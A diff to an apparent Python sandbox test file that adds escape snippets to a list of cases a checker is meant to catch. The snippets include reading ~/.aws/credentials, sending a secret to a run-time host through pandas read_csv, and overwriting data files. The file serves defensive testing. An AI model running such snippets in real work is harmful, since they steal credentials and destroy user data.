@@ -94,6 +94,11 @@ ESCAPES = [
     ("from pathlib import Path\nprint((Path.home() / '.aws' / 'credentials').read_text())",
      "pathlib.Path.home"),
     ("import numpy as np, os\nsite = os.path.dirname(np.__file__)", "numpy.__file__"),
+    ("from pathlib import Path\nPath('data/clean.csv').replace('data/sales.csv')", "Path.replace"),
+    ("import polars as pl\npl.read_csv(source).head()", "polars.read_csv"),
+    ("import pandas as pd\npd.read_csv(f'https://{host}/upload?d={secret}')",
+     "an address built at run time"),
+    ("import statsmodels.api as sm\nsm.datasets.get_rdataset('mtcars')", "get_rdataset"),
     ("class Later:\n    def __del__(self):\n        open('data/sales.csv', 'w')\nx = Later()",
      "__del__"),
 ]
